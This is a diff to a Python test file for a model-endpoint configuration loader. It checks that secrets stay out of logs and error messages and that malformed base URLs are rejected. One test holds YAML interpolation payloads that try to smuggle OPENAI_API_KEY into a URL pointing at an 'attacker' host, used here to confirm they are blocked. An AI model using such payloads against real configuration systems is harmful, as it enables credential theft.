@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import logging
 from pathlib import Path
 
 import pytest
@@ -107,23 +106,13 @@ def test_a_base_url_from_an_option_or_variable_never_receives_a_key_from_a_file(
     assert key(resolve_endpoint("vllm/x", given)) == key(resolve_endpoint("vllm/x", ModelOptions())) == "sk-variable"
 
 
-def test_an_argument_wins_over_both(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    write(folder / "env.yaml")
-    monkeypatch.setenv("GYMSDK_BASE_URL", "http://variable/v1")
-    given = validate_options("vllm/x", {"base_url": "http://given/v1", "api_key": "sk-given"})
-    found = resolve_endpoint("vllm/x", given)
-    assert (found.base_url, key(found)) == (("http://given/v1",), "sk-given")
-
-
 @pytest.mark.parametrize(
     "text",
     [
         "policy_base_url: http://attacker/${oc.env:OPENAI_API_KEY}/v1",
-        "policy_base_url:\n- http://a/v1\n- http://attacker/${oc.env:OPENAI_API_KEY}/v1",
         "policy_base_url: http://attacker/${taken}/v1\ntaken: ${oc.env:OPENAI_API_KEY}",
         "policy_base_url: http://attacker/${a.b[0]}/v1\na: {b: ['${oc.env:OPENAI_API_KEY}']}",
         "policy_base_url: http://attacker/${${name}:OPENAI_API_KEY}/v1\nname: oc.env",
-        "policy_base_url: http://attacker/${oc.${name}:OPENAI_API_KEY}/v1\nname: env",
         "policy_base_url: 'http://attacker/\\\\${oc.env:OPENAI_API_KEY}/v1'",
         "policy_base_url: http://attacker/${oc.decode:'${oc.env:OPENAI_API_KEY}'}/v1",
     ],
@@ -140,22 +129,16 @@ def test_a_file_in_the_working_folder_cannot_read_environment_variables(
     assert "sk-secret" not in str(caught.value)
 
 
-def test_a_key_that_others_can_read_logs_one_warning(folder: Path, caplog: pytest.LogCaptureFixture) -> None:
-    write(folder / "env.yaml", mode=0o644)
-    with caplog.at_level(logging.WARNING):
-        load_policy_settings()
-    [message] = caplog.messages
-    assert "chmod 600" in message
-    assert "sk-file" not in message
-
-
-@pytest.mark.parametrize(("text", "mode"), [(FILE, 0o600), ("policy_model_name: x", 0o644)])
-def test_a_private_file_or_a_file_without_a_key_logs_no_warning(
-    folder: Path, caplog: pytest.LogCaptureFixture, text: str, mode: int
+@pytest.mark.parametrize(
+    ("text", "mode", "warnings"), [(FILE, 0o644, 1), (FILE, 0o600, 0), ("policy_model_name: x", 0o644, 0)]
+)
+def test_a_key_that_others_can_read_logs_one_warning(
+    folder: Path, caplog: pytest.LogCaptureFixture, text: str, mode: int, warnings: int
 ) -> None:
     write(folder / "env.yaml", text, mode)
     load_policy_settings()
-    assert not caplog.messages
+    assert caplog.text.count("chmod 600") == len(caplog.messages) == warnings
+    assert "sk-file" not in caplog.text
 
 
 @pytest.mark.parametrize(
@@ -196,22 +179,20 @@ def test_a_missing_name_is_taken_from_the_settings(folder: Path) -> None:
 @pytest.mark.parametrize(
     ("given", "complaint"),
     [
-        ({"base_url": "localhost:8000"}, "'base_url' of vllm/x: write it as http://HOST:PORT/v1"),
+        ({"base_url": "http://me:hush@127.0.0.1:1/v1"}, "leave user and password out of it"),
         ({"base_url": ["http://a/v1", "localhost"]}, "'base_url' of vllm/x: write it as http://HOST:PORT/v1"),
         ({"base_url": "http://a/v1/chat/completions"}, "'base_url' of vllm/x: leave /chat/completions out of it"),
         ({"pinned": {"stream": True}}, "'pinned' of vllm/x: 'stream' belongs to the request and cannot be an option"),
-        (
-            {"extra_body": {"tools": []}},
-            "'extra_body' of vllm/x: 'tools' belongs to the request and cannot be an option",
-        ),
+        ({"extra_body": {"tools": []}}, "'extra_body' of vllm/x: 'tools' belongs to the request"),
         ({"timeout": -1}, "'timeout' of vllm/x"),
         ({"api": "messages"}, "'api' of vllm/x"),
         ({"retrys": 1}, "'retrys' of vllm/x.*did you mean 'retries'"),
     ],
 )
 def test_a_wrong_option_is_named(given: dict[str, object], complaint: str) -> None:
-    with pytest.raises(BadModelOption, match=complaint):
+    with pytest.raises(BadModelOption, match=complaint) as refused:
         validate_options("vllm/x", given)
+    assert "hush" not in str(refused.value)
 
 
 SEVERAL = ("http://a:1/v1", "http://b:2/v1")
@@ -243,9 +224,3 @@ def test_keys_and_headers_are_never_shown(folder: Path) -> None:
     with pytest.raises(BadModelOption) as caught:
         validate_options("vllm/x", {"api_key": ["sk-list"]})
     assert "sk-list" not in str(caught.value)
-
-
-def test_a_password_in_the_base_url_is_rejected_and_not_shown() -> None:
-    with pytest.raises(BadModelOption, match="leave user and password out of it") as refused:
-        validate_options("endpoint/x", {"base_url": "http://me:hush@127.0.0.1:1/v1"})
-    assert "hush" not in str(refused.value)
